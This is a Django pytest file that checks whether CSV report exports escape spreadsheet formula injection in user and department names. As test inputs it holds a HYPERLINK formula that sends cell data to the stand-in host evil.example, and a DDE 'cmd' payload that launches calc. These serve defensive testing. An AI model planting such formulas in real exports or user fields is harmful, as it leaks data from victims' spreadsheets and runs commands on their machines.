"""Spreadsheet formula injection: people's names in every CSV export are written as text."""
from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from apps.core.hostile import spreadsheet_safe
from apps.reports.rollups import reports_refresh
from apps.reports.selectors import TABLES
from tests.factories import conversation_in

pytestmark = pytest.mark.django_db
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Sofia")'


@pytest.mark.parametrize("value,expected", [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("-3", "-3"), ("+0.25", "+0.25"), ("Sofia", "Sofia"), ("", ""), ("a=b", "a=b"),
])
def test_spreadsheet_safe(value, expected):
    assert spreadsheet_safe(value) == expected


def test_every_export_neutralises_formula_names(cast):
    for user, name in ((cast.collab_a, HOSTILE), (cast.collab_b, "@cmd")):
        user.display_name = name
        user.first_name = name
        user.save(update_fields=["display_name", "first_name"])
    cast.dept_a.name = "+Sales formula"
    cast.dept_a.save(update_fields=["name"])
    conversation_in(cast, "archived", department=cast.dept_a, assignee=cast.collab_a)
    conversation_in(cast, "archived", department=cast.dept_b, assignee=cast.collab_b)
    reports_refresh(settle_seconds=0)
    client = Client()
    client.force_login(cast.operator)
    today = timezone.localdate()
    cells = []
    for table in TABLES:
        response = client.get(reverse("reports-export", args=[table]) + f"?start={today}&end={today}")
        assert response.status_code == 200, table
        cells += [c for row in csv.reader(io.StringIO(response.content.decode())) for c in row]
    assert "'" + HOSTILE in cells and "'@cmd" in cells and "'+Sales formula" in cells
    assert not [c for c in cells if c[:1] in ("=", "@", "\t", "\r")]
    assert not [c for c in cells if c[:1] in ("+", "-") and not c[1:].replace(".", "").isdigit()]
